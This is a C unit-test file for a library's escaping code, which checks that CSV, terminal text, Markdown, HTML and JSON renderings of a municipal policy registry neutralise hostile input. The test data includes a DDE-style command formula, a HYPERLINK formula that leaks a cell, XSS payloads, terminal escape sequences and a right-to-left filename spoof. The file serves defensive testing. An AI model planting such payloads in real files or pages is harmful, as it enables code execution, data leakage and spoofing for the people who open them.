/*
 * The escaping of a document's text (libveilig/util/escape.h, veilig_escape, and
 * the renderings that use it; docs/security.md): the CSV formula guard and
 * its round trip, visible escapes of control and bidirectional characters
 * in text with the right column widths, Markdown that reads as the text,
 * and the renderings of a hostile registry in every format.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "util/escape.h"
#include "testutil.h"
#include "veilig.h"

#define OK(x) ck_assert_int_eq((x), VEILIG_OK)
#define N(a)  (sizeof(a) / sizeof(a)[0])

/* veilig_escape of s in format with flags, as a new string (free()). */
static char *esc(const char *s, veilig_format format, unsigned flags) {
    char *out = NULL;
    size_t len = 0;
    OK(veilig_escape(&out, &len, s, format, flags));
    ck_assert_uint_eq(len, strlen(out));
    char *copy = strdup(out);
    veilig_free(out);
    return copy;
}

static void assert_esc(const char *s, veilig_format format, unsigned flags, const char *want) {
    char *got = esc(s, format, flags);
    ck_assert_msg(strcmp(got, want) == 0, "escape(\"%s\", %d): \"%s\", expected \"%s\"", s,
                  (int)format, got, want);
    free(got);
}

/* ---- CSV ---- */

START_TEST(test_csv_needs_guard) {
    static const char *const guarded[] = {"=1+1", "+31 6", "-5", "@SUM(A1)", "\tx",
                                          "\rx",  "'x",    "'",  "="};
    static const char *const plain[] = {"", "a=1", " =1", "1-2", "x@y", "\"=1\"", "\n=1", "€", "#"};
    for (size_t i = 0; i < N(guarded); i++)
        ck_assert_msg(vg_csv_needs_guard(guarded[i]), "\"%s\" needs the guard", guarded[i]);
    for (size_t i = 0; i < N(plain); i++)
        ck_assert_msg(!vg_csv_needs_guard(plain[i]), "\"%s\" needs no guard", plain[i]);
    ck_assert(!vg_csv_needs_guard(NULL));
}
END_TEST

START_TEST(test_csv_fields) {
    assert_esc("=HYPERLINK(\"http://x?y=\"&A1,\"klik\")", VEILIG_FORMAT_CSV, 0,
               "\"'=HYPERLINK(\"\"http://x?y=\"\"&A1,\"\"klik\"\")\"");
    assert_esc("=1+1", VEILIG_FORMAT_CSV, 0, "'=1+1");
    assert_esc("=1+1", VEILIG_FORMAT_CSV, VEILIG_REPORT_RAW, "=1+1");
    assert_esc("'quoted", VEILIG_FORMAT_CSV, 0, "''quoted");
    assert_esc("\rx", VEILIG_FORMAT_CSV, 0, "\"'\rx\"");
    assert_esc("plain text", VEILIG_FORMAT_CSV, 0, "plain text");
    assert_esc("a,b", VEILIG_FORMAT_CSV, 0, "\"a,b\"");
    assert_esc("", VEILIG_FORMAT_CSV, 0, "");
}
END_TEST

/* What an importer does (docs/security.md): strip one leading ' exactly
   when the character after it is one the guard is for. */
static const char *unguard(const char *cell) {
    return cell[0] == '\'' && vg_csv_needs_guard(cell + 1) ? cell + 1 : cell;
}

START_TEST(test_csv_round_trip) {
    static const char *const texts[] = {"=cmd|' /C calc'!A0",
                                        "+1",
                                        "-1",
                                        "@x",
                                        "\t=1",
                                        "\r\n",
                                        "'",
                                        "''",
                                        "'=1",
                                        "'a",
                                        "a'",
                                        "",
                                        "=",
                                        "x",
                                        "-",
                                        "'-",
                                        "'''=",
                                        "\"=1\""};
    for (size_t i = 0; i < N(texts); i++) {
        vg_buf b;
        vg_buf_init(&b);
        vg_csv_field(&b, texts[i], 1);
        vg_buf_putc(&b, '\0');
        ck_assert(!b.failed);
        /* read the one field back: unquote, then unguard */
        char *cell = strdup(b.data);
        if (cell[0] == '"') {
            size_t k = 0;
            for (size_t j = 1; cell[j]; j++) {
                if (cell[j] == '"' && cell[j + 1] == '"')
                    j++;
                else if (cell[j] == '"')
                    break;
                cell[k++] = cell[j];
            }
            cell[k] = '\0';
        }
        ck_assert_msg(strcmp(unguard(cell), texts[i]) == 0, "\"%s\" came back as \"%s\"", texts[i],
                      unguard(cell));
        /* and a spreadsheet sees no formula */
        ck_assert_msg(!strchr("=+-@", cell[0]) || !cell[0], "\"%s\" begins a formula", cell);
        free(cell);
        vg_buf_free(&b);
    }
}
END_TEST

/* ---- terminal text ---- */

START_TEST(test_text_escapes) {
    assert_esc("a\x1b]0;title\x07\x1b[2Jb", VEILIG_FORMAT_TEXT, 0, "a\\x1b]0;title\\x07\\x1b[2Jb");
    assert_esc("x\x7fy", VEILIG_FORMAT_TEXT, 0, "x\\x7fy");
    assert_esc("c1 \xc2\x9b"
               "31m",
               VEILIG_FORMAT_TEXT, 0, "c1 \\u009b31m");
    assert_esc("abc\xe2\x80\xae"
               "fed",
               VEILIG_FORMAT_TEXT, 0, "abc\\u202efed");
    assert_esc("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x81\xa6\xe2\x81\xa7\xe2\x81"
               "\xa8\xe2\x81\xa9",
               VEILIG_FORMAT_TEXT, 0, "\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069");
    assert_esc("line\nbreak\ttab\rcr", VEILIG_FORMAT_TEXT, 0, "line\\nbreak\\ttab\\rcr");
    assert_esc("not utf-8: \xff\xc0", VEILIG_FORMAT_TEXT, 0, "not utf-8: \\xff\\xc0");
    /* what a terminal shows as it is stays */
    assert_esc("café ’s avonds 日本 😀 \\x1b", VEILIG_FORMAT_TEXT, 0, "café ’s avonds 日本 😀 \\x1b");
    /* U+200E and U+2028 are not controls the rule or the escaping name */
    assert_esc("\xe2\x80\x8e\xe2\x80\xa8", VEILIG_FORMAT_TEXT, 0, "\xe2\x80\x8e\xe2\x80\xa8");
}
END_TEST

START_TEST(test_term_modes) {
    vg_buf b;
    vg_buf_init(&b);
    vg_term_puts(&b, "a\nb\tc\rd\x01", VG_TERM_SPACES);
    vg_term_puts(&b, "|a\nb\tc\rd\x01", VG_TERM_KEEP);
    vg_buf_putc(&b, '\0');
    ck_assert_str_eq(b.data, "a b c d\\x01|a\nb\tc\\rd\\x01");
    vg_buf_free(&b);
}
END_TEST

START_TEST(test_term_width) {
    static const struct {
        const char *s;
        size_t width;
    } cases[] = {
        {"abc", 3},
        {"a\x1b"
         "b",
         6},                     /* \x1b */
        {"\xe2\x80\xae", 6},     /* \u202e */
        {"\xc2\x9b", 6},         /* \u009b */
        {"a\nb", 3},             /* a space */
        {"caf\xc3\xa9", 4},      /* é */
        {"cafe\xcc\x81", 4},     /* e and a combining accent */
        {"日本", 4},             /* wide */
        {"😀", 2},                /* emoji */
        {"\xf0\xa0\x80\x80", 2}, /* U+20000, plane 2 */
        {"\xf3\xa0\x80\x81", 0}, /* U+E0001, a tag */
        {"\xf4\x8f\xbf\xbd", 1}, /* U+10FFFD, plane 16 */
        {"a\xe2\x80\x8b"
         "b",
         2},         /* a zero-width space */
        {"\xff", 4}, /* \xff */
    };
    for (size_t i = 0; i < N(cases); i++)
        ck_assert_msg(vg_term_widths(cases[i].s) == cases[i].width, "case %zu: width %zu, not %zu",
                      i, vg_term_widths(cases[i].s), cases[i].width);
    ck_assert_uint_eq(vg_term_widths(NULL), 0);
}
END_TEST

/* ---- Markdown ---- */

START_TEST(test_markdown) {
    assert_esc("<script>alert(1)</script>", VEILIG_FORMAT_MARKDOWN, 0,
               "&lt;script&gt;alert(1)&lt;/script&gt;");
    assert_esc("<img src=x onerror=alert(1)>", VEILIG_FORMAT_MARKDOWN, 0,
               "&lt;img src=x onerror=alert(1)&gt;");
    assert_esc("a | b\nc\r\nd", VEILIG_FORMAT_MARKDOWN, 0, "a &#124; b c  d");
    assert_esc("*x* _y_ [l](u) `c` \\ {a} # &amp;", VEILIG_FORMAT_MARKDOWN, 0,
               "\\*x\\* \\_y\\_ \\[l\\](u) \\`c\\` \\\\ \\{a\\} \\# &amp;amp;");
    assert_esc("esc \x1b[2J \xe2\x80\xae", VEILIG_FORMAT_MARKDOWN, 0, "esc \\x1b\\[2J \\u202e");
    /* at the start of a line: list markers and ordered list numbers */
    vg_buf b;
    vg_buf_init(&b);
    vg_md_put(&b, "- item", 1);
    vg_buf_putc(&b, '|');
    vg_md_put(&b, "+ item", 1);
    vg_buf_putc(&b, '|');
    vg_md_put(&b, "2021. Plan", 1);
    vg_buf_putc(&b, '|');
    vg_md_put(&b, "3) x", 1);
    vg_buf_putc(&b, '|');
    vg_md_put(&b, "- in the middle", 0);
    vg_buf_putc(&b, '\0');
    ck_assert_str_eq(b.data, "\\- item|\\+ item|2021\\. Plan|3\\) x|- in the middle");
    vg_buf_free(&b);
}
END_TEST

START_TEST(test_markdown_code_and_urls) {
    vg_buf b;
    vg_buf_init(&b);
    vg_md_code(&b, "pub-ploeg");
    vg_buf_putc(&b, '|');
    vg_md_code(&b, "a`b``c");
    vg_buf_putc(&b, '|');
    vg_md_code(&b, "`x\x1b");
    vg_buf_putc(&b, '|');
    vg_md_url(&b, "https://example.nl/a?b=1&c=2");
    vg_buf_putc(&b, '|');
    vg_md_url(&b, "javascript:alert(1)");
    vg_buf_putc(&b, '|');
    vg_md_url(&b, "https://x/\"onmouseover=alert(1)");
    vg_buf_putc(&b, '|');
    vg_md_url(&b, "https://x/<b>");
    vg_buf_putc(&b, '\0');
    ck_assert_str_eq(b.data, "`pub-ploeg`|```a`b``c```|`` `x\\x1b ``|"
                             "<https://example.nl/a?b=1&c=2>|javascript:alert(1)|"
                             "https://x/\"onmouseover=alert(1)|https://x/&lt;b&gt;");
    vg_buf_free(&b);
}
END_TEST

/* ---- JSON, HTML, arguments ---- */

START_TEST(test_json_html) {
    assert_esc("a\"b\\c\x1b</script>", VEILIG_FORMAT_JSON, 0, "\"a\\\"b\\\\c\\u001b</script>\"");
    assert_esc("<b onclick=\"x\">&'\x1b\x7f", VEILIG_FORMAT_HTML, 0,
               "&lt;b onclick=&quot;x&quot;&gt;&amp;&#39;");
    /* the escaper itself: characters of several bytes pass whole, U+FFFE and
       U+FFFF are dropped, and bytes that are not UTF-8 (which the model
       refuses) still cannot carry markup past it */
    vg_buf b;
    vg_buf_init_std(&b);
    vg_xml_escape(&b, "\xC3\xA9\xE2\x80\x94\xEF\xBF\xBEx\xEF\xBF\xBF\xC3<i>\xEF\xBF\xEF>");
    ck_assert_str_eq(b.data, "\xC3\xA9\xE2\x80\x94x\xC3&lt;i&gt;\xEF\xBF\xEF&gt;");
    vg_buf_free(&b);
    /* the same when cut to a number of characters */
    vg_buf_init_std(&b);
    vg_xml_escape_cut(&b, "\xC3<script>alert(1)</script>", 3);
    ck_assert_ptr_null(strchr(b.data, '<'));
    ck_assert_ptr_nonnull(strstr(b.data, "\xC3&lt;"));
    vg_buf_free(&b);
}
END_TEST

/* HTML escaping passes runs of plain text over at once: a text escapes as
   its characters do one by one, whatever runs of plain text lie between the
   characters that need care (every such ASCII byte, U+FFFE and U+FFFF, a
   stray byte, multi-byte characters). */
START_TEST(test_html_long_runs) {
    static const char *const atoms[] = {"&",
                                        "<",
                                        ">",
                                        "\"",
                                        "'",
                                        "\x01",
                                        "\x1f",
                                        "\t",
                                        "\n",
                                        "\r",
                                        "\x7f",
                                        "\xC3\xA9",
                                        "\xE2\x82\xAC",
                                        "\xF0\x9F\x98\x80",
                                        "\xEF\xBF\xBE",
                                        "\xEF\xBF\xBF",
                                        "\xEF\xBC\x81",
                                        "\xFF",
                                        " "};
    size_t natoms = sizeof atoms / sizeof *atoms;
    for (size_t shift = 0; shift < 17; shift++) {
        vg_buf text, want;
        vg_buf_init_std(&text);
        vg_buf_init_std(&want);
        for (size_t i = 0; i < shift; i++)
            vg_buf_putc(&text, 'p'), vg_buf_putc(&want, 'p');
        for (size_t a = 0; a < natoms; a++) {
            for (size_t run = 0; run < (a * 7 + shift) % 23; run++)
                vg_buf_putc(&text, 'q'), vg_buf_putc(&want, 'q');
            char *one = NULL;
            ck_assert_int_eq(veilig_escape(&one, NULL, atoms[a], VEILIG_FORMAT_HTML, 0), VEILIG_OK);
            vg_buf_puts(&text, atoms[a]);
            vg_buf_puts(&want, one);
            veilig_free(one);
        }
        char *got = NULL;
        ck_assert_int_eq(veilig_escape(&got, NULL, text.data, VEILIG_FORMAT_HTML, 0), VEILIG_OK);
        ck_assert_str_eq(got, want.data);
        veilig_free(got);
        vg_buf_free(&text);
        vg_buf_free(&want);
    }
}
END_TEST

START_TEST(test_escape_einval) {
    char *out = (char *)1;
    size_t len = 7;
    ck_assert_int_eq(veilig_escape(&out, &len, NULL, VEILIG_FORMAT_TEXT, 0), VEILIG_EINVAL);
    ck_assert_ptr_null(out);
    ck_assert_uint_eq(len, 0);
    ck_assert_int_eq(veilig_escape(NULL, &len, "x", VEILIG_FORMAT_TEXT, 0), VEILIG_EINVAL);
    ck_assert_int_eq(veilig_escape(&out, NULL, "x", (veilig_format)0, 0), VEILIG_EINVAL);
    ck_assert_int_eq(veilig_escape(&out, NULL, "x", (veilig_format)6, 0), VEILIG_EINVAL);
    ck_assert_ptr_null(out);
    OK(veilig_escape(&out, NULL, "x", VEILIG_FORMAT_TEXT, 0));
    ck_assert_str_eq(out, "x");
    veilig_free(out);
}
END_TEST

/* ---- renderings of a hostile document ---- */

/* One municipality whose name holds what the issue tried: a terminal title
   and clear-screen sequence, a formula, markup and a bidi override. */
static const char hostile_doc[] =
    "{\"format\":\"veilig\",\"version\":1,\"municipalities\":[{\"code\":\"GM0001\","
    "\"name\":\"Stad\\u001b]0;pwned\\u0007\\u001b[2J\",\"summary\":\"=1+1 <script>x</script>\","
    "\"policy_links\":[{\"name\":\"1. eerste\"}],\"sources\":[{\"title\":\"- bron\"}],"
    "\"stakeholders\":[{\"id\":\"team\",\"name\":\"-2+3\",\"roles\":[\"executing\"]}],"
    "\"measures\":[{\"id\":\"m\",\"name\":\"=HYPERLINK(\\\"http://x?x=\\\"&A1,\\\"klik\\\")\","
    "\"category\":\"campaign\",\"description\":\"abc\\u202egnp.exe | a\\nb\","
    "\"partners\":[{\"stakeholder\":\"team\"}],\"budget\":{\"amount\":12.5}}],"
    "\"indicators\":[{\"id\":\"i\",\"name\":\"@saldo\",\"baseline\":{\"value\":-3}}]},"
    "{\"code\":\"GM0002\",\"name\":\"日本 café\"}]}";

static veilig_registry *hostile(void) {
    veilig_registry *reg = NULL;
    veilig_error err;
    int rc = veilig_registry_load_string(&reg, hostile_doc, strlen(hostile_doc), NULL, &err);
    ck_assert_msg(rc == VEILIG_OK, "%d:%d %s", err.line, err.column, err.message);
    return reg;
}

static char *render_list(const veilig_registry *reg, veilig_format format, unsigned flags) {
    veilig_report_options o = VEILIG_REPORT_OPTIONS_INIT;
    o.format = format;
    o.flags = flags;
    char *out = NULL;
    OK(veilig_render_list(&out, NULL, reg, &o));
    return out;
}

/* No byte of text is a control character other than LF, nor U+0080..U+009F or a bidi control. */
static void assert_no_controls(const char *text) {
    for (const unsigned char *p = (const unsigned char *)text; *p; p++) {
        ck_assert_msg(*p >= 0x20 || *p == '\n', "control byte 0x%02x at %zu", *p,
                      (size_t)(p - (const unsigned char *)text));
        ck_assert_msg(*p != 0x7F, "DEL");
        ck_assert_msg(!(p[0] == 0xC2 && p[1] >= 0x80 && p[1] <= 0x9F), "C1 character");
        ck_assert_msg(!(p[0] == 0xE2 && p[1] == 0x80 && p[2] >= 0xAA && p[2] <= 0xAE),
                      "bidi control");
        ck_assert_msg(!(p[0] == 0xE2 && p[1] == 0x81 && p[2] >= 0xA6 && p[2] <= 0xA9),
                      "bidi isolate");
    }
}

START_TEST(test_text_table_widths) {
    veilig_registry *reg = hostile();
    char *out = render_list(reg, VEILIG_FORMAT_TEXT, 0);
    assert_no_controls(out);
    ck_assert_ptr_nonnull(strstr(out, "Stad\\x1b]0;pwned\\x07\\x1b[2J"));
    /* the number of measures (right-aligned) ends at the same terminal column
       as its header on every line */
    char *copy = strdup(out), *save = NULL;
    size_t col = 0, lines = 0;
    for (char *line = strtok_r(copy, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
        size_t end;
        if (lines++ == 1)
            continue; /* the dashes */
        if (lines == 1) {
            end = (size_t)(strstr(line, "Maatregelen") - line) + strlen("Maatregelen");
        } else {
            const char *p = line + 8;
            while (*p && !(p[0] == ' ' && p[1] >= '0' && p[1] <= '9' && (p[2] == ' ' || !p[2])))
                p++;
            ck_assert_msg(*p, "no count on line %zu:\n%s", lines, out);
            end = (size_t)(p + 2 - line);
        }
        size_t w = vg_term_width(line, end);
        if (!col)
            col = w;
        ck_assert_msg(w == col, "line %zu: the count ends at %zu, not %zu:\n%s", lines, w, col,
                      out);
    }
    ck_assert_uint_eq(lines, 4);
    free(copy);
    veilig_free(out);
    veilig_registry_free(reg);
}
END_TEST

START_TEST(test_every_format_of_a_municipality) {
    veilig_registry *reg = hostile();
    const veilig_municipality *m = veilig_registry_get(reg, 0);
    veilig_report_options o = VEILIG_REPORT_OPTIONS_INIT;
    char *out = NULL;
    o.format = VEILIG_FORMAT_TEXT;
    OK(veilig_render_municipality(&out, NULL, m, &o));
    assert_no_controls(out);
    ck_assert_ptr_nonnull(strstr(out, "abc\\u202egnp.exe"));
    veilig_free(out);
    o.format = VEILIG_FORMAT_MARKDOWN;
    OK(veilig_render_municipality(&out, NULL, m, &o));
    assert_no_controls(out);
    ck_assert_ptr_null(strstr(out, "<script>"));
    ck_assert_ptr_nonnull(strstr(out, "&lt;script&gt;"));
    ck_assert_ptr_nonnull(strstr(out, "=HYPERLINK(\"http://x?x=\"&amp;A1,\"klik\")"));
    ck_assert_ptr_nonnull(strstr(out, "gnp.exe &#124; a b"));
    /* a list item's text begins a line: it does not nest a list */
    ck_assert_msg(strstr(out, "\n- 1\\. eerste\n") != NULL, "%s", out);
    ck_assert_msg(strstr(out, "\n- \\- bron\n") != NULL, "%s", out);
    veilig_free(out);
    /* CSV: the formula guarded */
    o.format = VEILIG_FORMAT_CSV;
    OK(veilig_render_municipality(&out, NULL, m, &o));
    ck_assert_msg(strstr(out, "\"'=HYPERLINK(\"\"http://x?x=\"\"&A1,\"\"klik\"\")\"") != NULL, "%s",
                  out);
    ck_assert_msg(strstr(out, ",12.50,") != NULL, "%s", out);
    ck_assert_msg(strstr(out, ",'-2+3") == NULL, "partners hold ids: %s", out);
    veilig_free(out);
    o.flags = VEILIG_REPORT_RAW;
    OK(veilig_render_municipality(&out, NULL, m, &o));
    ck_assert_msg(strstr(out, ",\"=HYPERLINK(") != NULL, "%s", out);
    veilig_free(out);
    veilig_registry_free(reg);
}
END_TEST

START_TEST(test_export_guard) {
    veilig_registry *reg = hostile();
    veilig_report_options o = VEILIG_REPORT_OPTIONS_INIT;
    o.format = VEILIG_FORMAT_CSV;
    char *out = NULL;
    OK(veilig_export(&out, NULL, reg, VEILIG_TABLE_STAKEHOLDERS, &o));
    ck_assert_msg(strstr(out, "\nGM0001,team,'-2+3,") != NULL, "%s", out);
    veilig_free(out);
    o.flags = VEILIG_REPORT_RAW;
    OK(veilig_export(&out, NULL, reg, VEILIG_TABLE_STAKEHOLDERS, &o));
    ck_assert_msg(strstr(out, "\nGM0001,team,-2+3,") != NULL, "%s", out);
    veilig_free(out);
    /* indicators: the name guarded, the negative value (a number) not */
    o.flags = 0;
    OK(veilig_export(&out, NULL, reg, VEILIG_TABLE_INDICATORS, &o));
    ck_assert_msg(strstr(out, "\nGM0001,i,'@saldo,,,,,-3,") != NULL, "%s", out);
    veilig_free(out);
    /* the list: the summary guarded, the counts not */
    o.flags = 0;
    OK(veilig_render_list(&out, NULL, reg, &o));
    ck_assert_msg(strstr(out, ",'=1+1 <script>x</script>\n") != NULL, "%s", out);
    veilig_free(out);
    veilig_registry_free(reg);
}
END_TEST

static Suite *escape_suite(void) {
    Suite *s = suite_create("escape");
    TCase *tc = tcase_create("escape");
    tcase_add_test(tc, test_csv_needs_guard);
    tcase_add_test(tc, test_csv_fields);
    tcase_add_test(tc, test_csv_round_trip);
    tcase_add_test(tc, test_text_escapes);
    tcase_add_test(tc, test_term_modes);
    tcase_add_test(tc, test_term_width);
    tcase_add_test(tc, test_markdown);
    tcase_add_test(tc, test_markdown_code_and_urls);
    tcase_add_test(tc, test_json_html);
    tcase_add_test(tc, test_html_long_runs);
    tcase_add_test(tc, test_escape_einval);
    suite_add_tcase(s, tc);
    tc = tcase_create("renderings");
    tcase_add_test(tc, test_text_table_widths);
    tcase_add_test(tc, test_every_format_of_a_municipality);
    tcase_add_test(tc, test_export_guard);
    suite_add_tcase(s, tc);
    return s;
}

int main(void) {
    return vg_test_run(escape_suite());
}
